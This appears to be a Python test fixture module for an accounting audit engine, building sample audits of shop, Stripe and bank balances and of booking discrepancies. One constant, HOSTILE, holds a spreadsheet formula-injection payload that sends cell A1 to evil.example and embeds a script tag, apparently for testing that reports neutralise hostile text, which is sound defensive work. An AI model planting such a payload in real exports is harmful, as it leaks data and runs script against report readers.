"""Literal audits as they come out of the engine: well, with every class, ambiguous, of nothing, of hostile texts."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

from journeys.audit.model import OF_BOOKINGS, OF_SALES, Audit, Balance, Discrepancy, Flaw, Item, Period
from journeys.model import Cause, Money

PERIOD = Period(first=date(2026, 5, 1), last=date(2026, 5, 31), zone=ZoneInfo("Europe/Berlin"), cutoff_s=4 * 3600)
BEGAN = datetime(2026, 6, 1, 6, 30, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'
BALANCES = (
    Balance(source="shop", currency="EUR", sales=1_284_560, refunds=-42_300),
    Balance(
        source="stripe", currency="EUR", opening=12_000, sales=1_281_560, refunds=-41_050, chargebacks=-2_499,
        fees=-24_117, payouts=-1_200_000, closing=25_894,
    ),
    Balance(source="bank", currency="EUR", opening=8_412_355, payouts=1_200_000, fees=-1_500, closing=9_610_355),
)  # fmt: skip


def euros(minor: int) -> Money:
    return Money(minor=minor, currency="EUR")


def audit(
    found: Sequence[Discrepancy] = (), *, subject: str = "sales", balances: Sequence[Balance] = BALANCES
) -> Audit:
    """An audit that found these."""
    sales = subject == "sales"
    kept = tuple(sorted(found, key=lambda each: (each.day, each.flaw.value)))
    stakes: Counter[tuple[Flaw, str]] = Counter()
    for each in kept:
        if each.amount is not None:
            stakes[each.flaw, each.amount.currency] += each.amount.minor

    def again() -> Iterator[Discrepancy]:
        return iter(kept)

    return Audit(
        store="shop" if sales else "booking",
        subject=subject,
        period=PERIOD,
        sources=("stripe", "bank") if sales else ("calendar",),
        records={"shop": 1_204, "stripe": 1_231, "bank": 31} if sales else {"booking": 310, "calendar": 309},
        matched={"by reference": 1_190, "by amount and day": 9, "payout of several": 31},
        flaws=Counter(each.flaw for each in kept),
        at_stake=dict(stakes),
        discrepancies=again,
        balances=tuple(balances) if sales else (),
        began=BEGAN,
        seconds=3.21,
    )


WELL = audit(balances=[*BALANCES[:2], replace(BALANCES[2], closing=9_610_855)])
NOTHING = replace(audit(balances=()), records={"shop": 0, "bank": 0}, matched={})


def sale(
    flaw: Flaw, number: int = 0, *, minor: int = -1250, says: str = "", cause: Cause = Cause.INTEGRATION
) -> Discrepancy:
    """One discrepancy of a sale; those of different numbers concern different orders."""
    order, when = str(100_000 + number), PERIOD.first + timedelta(days=number % 31)
    ours = Item(
        source="shop", place=f"order {order}", says=says or f"sale of {euros(abs(minor))}", reference=order,
        amount=euros(abs(minor)), moment=f"{when.isoformat()}T10:15:00Z",
    )  # fmt: skip
    theirs = Item(
        source="bank", place=f"may.xml line {212 + number}", says=f"credit, {says or f'order {order}, thank you'}",
        reference=order, amount=euros(abs(minor) - 200), moment=when.isoformat(),
    )  # fmt: skip
    return Discrepancy(
        flaw=flaw,
        day=when,
        ours=() if flaw in (Flaw.MISSING_HERE, Flaw.UNKNOWN_PAYOUT) else (ours,),
        theirs={Flaw.MISSING_THERE: (), Flaw.DUPLICATE: (theirs, replace(theirs, place="may.xml line 998"))}.get(
            flaw, (theirs,)
        ),
        explanation=f"order {order}: the shop has {euros(abs(minor))}, the bank {euros(abs(minor) - 200)}",
        cause=cause,
        why="the amount was changed after the order was placed",
        amount=euros(minor),
    )


def booking(flaw: Flaw, number: int = 0) -> Discrepancy:
    """One discrepancy of a booking."""
    when = PERIOD.first + timedelta(days=number % 31)
    ours = Item(source="booking", place=f"booking MX3K{number}", says="2 places at 19:00", moment=f"{when}T17:00:00Z")
    theirs = Item(source="calendar", place=f"event {number}", says="2 places at 17:00", moment=f"{when}T15:00:00Z")
    return Discrepancy(
        flaw=flaw, day=when, ours=(ours,), theirs=(theirs,), cause=Cause.CONFIGURATION,
        explanation=f"MX3K{number} begins at 19:00 at the store and at 17:00 in the calendar",
        why="the calendar was written in UTC",
    )  # fmt: skip


EVERY_CLASS = audit([sale(flaw, number) for number, flaw in enumerate(OF_SALES)])
BOOKINGS = audit([booking(flaw, number) for number, flaw in enumerate(OF_BOOKINGS)], subject="bookings")
AMBIGUOUS = audit([sale(Flaw.AMBIGUOUS, minor=0)])
ATTACKED = audit([sale(flaw, number, says=HOSTILE) for number, flaw in enumerate(OF_SALES)])


def many(count: int) -> Audit:
    """So many of one class, and three of another."""
    rare = [sale(Flaw.CHARGEBACK, number) for number in range(3)]
    return audit([*rare, *(sale(Flaw.AMOUNT, number) for number in range(count - 3))])
